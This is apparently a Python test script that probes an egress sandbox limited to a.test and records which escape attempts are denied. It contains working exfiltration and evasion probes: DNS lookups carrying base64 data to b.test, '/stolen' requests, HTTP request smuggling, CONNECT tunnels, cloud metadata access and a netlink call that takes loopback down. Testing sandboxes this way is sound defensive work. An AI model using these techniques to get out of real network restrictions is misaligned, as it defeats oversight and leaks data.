# Everything that a program under `allow: [a.test]` can think of. Prints what came of each attempt as one JSON object:
# `reached …` or `denied …`.
import http.client
import json
import socket
import ssl
import struct
import sys
import urllib.request

A, A_V6, B, NAME_SERVER, PRIVATE, HOST, PORT = sys.argv[1:8]
TRUST = ssl.create_default_context(cafile="ca.pem")
# What a client of plain HTTP hears of a connection that the policy does not let through. No server outside answers so.
REFUSED = 403
outcomes = {}


def attempt(name, work, *args):
    try:
        outcomes[name] = "reached " + str(work(*args))
    except Exception as error:
        outcomes[name] = "denied " + type(error).__name__


def get(host, path="/", tls=False):
    kind = http.client.HTTPSConnection if tls else http.client.HTTPConnection
    connection = kind(host, timeout=10, **({"context": TRUST} if tls else {}))
    connection.request("GET", path)
    answer = connection.getresponse()
    if answer.status == REFUSED:
        raise PermissionError(answer.status)
    return answer.read().decode()


def say(host, port, *texts, patience=10):
    """Sends each text and reads what is answered to it; the last answer counts."""
    with socket.create_connection((host, int(port)), timeout=patience) as stream:
        for text in texts:
            stream.sendall(text if isinstance(text, bytes) else text.encode())
            answer = stream.recv(1000)
            if not answer:
                raise ConnectionError("no answer")
            if answer.startswith(b"HTTP/1.1 %d " % REFUSED):
                raise PermissionError(REFUSED)
        return answer.split(b"\r\n")[0]


def request(host, path="/", more=""):
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n"


def handshake(name, host="a.test", port=443):
    context = ssl._create_unverified_context()
    with socket.create_connection((host, port), timeout=10) as stream:
        with context.wrap_socket(stream, server_hostname=name) as secure:
            return secure.version()


def query(name, kind=1, server=NAME_SERVER, tcp=False):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    message = b"\x07\x07\x01\0\0\x01\0\0\0\0\0\0" + labels + b"\0" + struct.pack("!HH", kind, 1)
    if tcp:
        with socket.create_connection((server, 53), timeout=10) as stream:
            stream.sendall(struct.pack("!H", len(message)) + message)
            answer = stream.recv(600)[2:]
    else:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
            stream.settimeout(10)
            stream.sendto(message, (server, 53))
            answer = stream.recv(600)
    code, records = answer[3] & 15, answer[7]
    if code or not records:
        raise PermissionError(f"code {code}")
    return ".".join(map(str, answer[-4:]))


def send(host, port, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as stream:
        return stream.sendto(b"x" * 20, (host, int(port)))


def raw(family, kind, protocol=0):
    socket.socket(family, kind, protocol).close()


def take_loopback_down():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as stream:
        # RTM_NEWLINK for index 1, with IFF_UP in the change mask and not in the flags.
        stream.send(struct.pack("=LHHLLBBHiLL", 32, 16, 5, 1, 0, 0, 0, 0, 1, 0, 1))
        error = struct.unpack("=i", stream.recv(100)[16:20])[0]
        if error:
            raise PermissionError(error)


attempt("http", get, "a.test")
attempt("https", get, "a.test", "/", True)
attempt("two requests", say, "a.test", 80, request("a.test"), request("a.test", "/again"))
attempt("right handshake", handshake, "a.test")
attempt("right lookup", query, "a.test")
attempt("right lookup over tcp", query, "a.test", 1, NAME_SERVER, True)

attempt("other name", get, "b.test")
attempt("name below", get, "x.a.test")
attempt("name beside", get, "xa.test")
for label, address in [("its address", A), ("other address", B), ("private address", PRIVATE), ("own address", HOST),
                       ("its address in IPv6", A_V6), ("other address in IPv6", "2606:4700::35"),
                       ("mapped address", "::ffff:" + A), ("translated address", "64:ff9b::5db8:d822"),
                       ("metadata", "169.254.169.254"), ("public address", "8.8.8.8"), ("spare address", "198.19.7.7")]:
    attempt(label, say, address, 80, request("a.test"))
    attempt(label + " with TLS", handshake, "a.test", address)
for port in [22, 25, 53, 853, 8080, 8443]:
    attempt(f"port {port}", say, "a.test", port, request("a.test"))
attempt("resolver as server", say, "a.test", 53, struct.pack("!H", 5) + b"hello")

attempt("other server name", handshake, "b.test")
attempt("no server name", handshake, None)
attempt("server name with a dot", handshake, "a.test.")
attempt("plain on 443", say, "a.test", 443, request("a.test"))
attempt("other host", say, "a.test", 80, request("b.test"))
attempt("other host in the second request", say, "a.test", 80, request("a.test"), request("b.test", "/stolen"))
attempt("other host at once", say, "a.test", 80, request("a.test") + request("b.test", "/stolen"), "")
attempt("two hosts", say, "a.test", 80, request("a.test", "/", "Host: b.test\r\n"))
attempt("no host", say, "a.test", 80, "GET / HTTP/1.1\r\n\r\n")
attempt("old HTTP", say, "a.test", 80, "GET /\r\n")
attempt("absolute form", say, "a.test", 80, "GET http://b.test/ HTTP/1.1\r\nHost: a.test\r\n\r\n")
attempt("bare line ends", say, "a.test", 80, request("b.test").replace("\r", ""))
attempt("hidden request", say, "a.test", 80,
        request("a.test", "/", "Content-Length: 3\r\nTransfer-Encoding: chunked\r\n") + "0\r\n\r\n" + request("b.test"))
attempt("HTTP/2", say, "a.test", 80, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
attempt("connect", say, "a.test", 80, "CONNECT b.test:443 HTTP/1.1\r\nHost: b.test:443\r\n\r\n")
attempt("connect to itself", say, "a.test", 80, "CONNECT a.test:443 HTTP/1.1\r\nHost: a.test:443\r\n\r\n")
attempt("redirect", lambda: urllib.request.urlopen("http://a.test/redirect", timeout=10).read())
# Not even an answer comes from there.
attempt("proxy's own port", lambda: say("127.0.0.1", 1, "CONNECT b.test:443 HTTP/1.1\r\n\r\n", patience=2))
attempt("resolver's own port", lambda: say("127.0.0.1", 53, b"\0\x05hello", patience=2))
attempt("proxy's own port elsewhere", say, "198.18.0.1", 1, request("a.test"))

attempt("other lookup", query, "b.test")
attempt("lookup with data", query, "c2VjcmV0.b.test")
attempt("lookup with data below", query, "c2VjcmV0.a.test")
attempt("other lookup elsewhere", query, "b.test", 1, "8.8.8.8")
attempt("other lookup over tcp", query, "b.test", 1, NAME_SERVER, True)
for kind in [5, 10, 15, 16, 28, 33, 64, 65, 255]:
    attempt(f"lookup of type {kind}", query, "a.test", kind)
attempt("lookup over TLS", handshake, "a.test", NAME_SERVER, 853)
attempt("lookup over HTTPS", handshake, "a.test", NAME_SERVER, 443)
attempt("mDNS", send, "224.0.0.251", 5353)
attempt("LLMNR", send, "224.0.0.252", 5355)

attempt("UDP", send, A, 443)
attempt("UDP to the name", send, "a.test", 443)
attempt("UDP in IPv6", send, A_V6, 443, socket.AF_INET6)
attempt("broadcast", send, "255.255.255.255", 67)
attempt("ping", raw, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
attempt("raw", raw, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
attempt("raw in IPv6", raw, socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_TCP)
attempt("packets", raw, socket.AF_PACKET, socket.SOCK_RAW, 0x300)
attempt("SCTP", raw, socket.AF_INET, socket.SOCK_STREAM, 132)
attempt("virtual socket", raw, socket.AF_VSOCK, socket.SOCK_STREAM)
attempt("packet rules", raw, socket.AF_NETLINK, socket.SOCK_RAW, 12)
attempt("loopback down", take_loopback_down)

for label, address in [("host's loopback", "127.0.0.1"), ("host's address", HOST), ("host's private address", "10.9.0.2"),
                       ("host's loopback in IPv6", "::1"), ("host's address in IPv6", "2606:4700::1"),
                       ("any address", "0.0.0.0")]:
    attempt(label, say, address, PORT, request("a.test"))
print(json.dumps(outcomes))
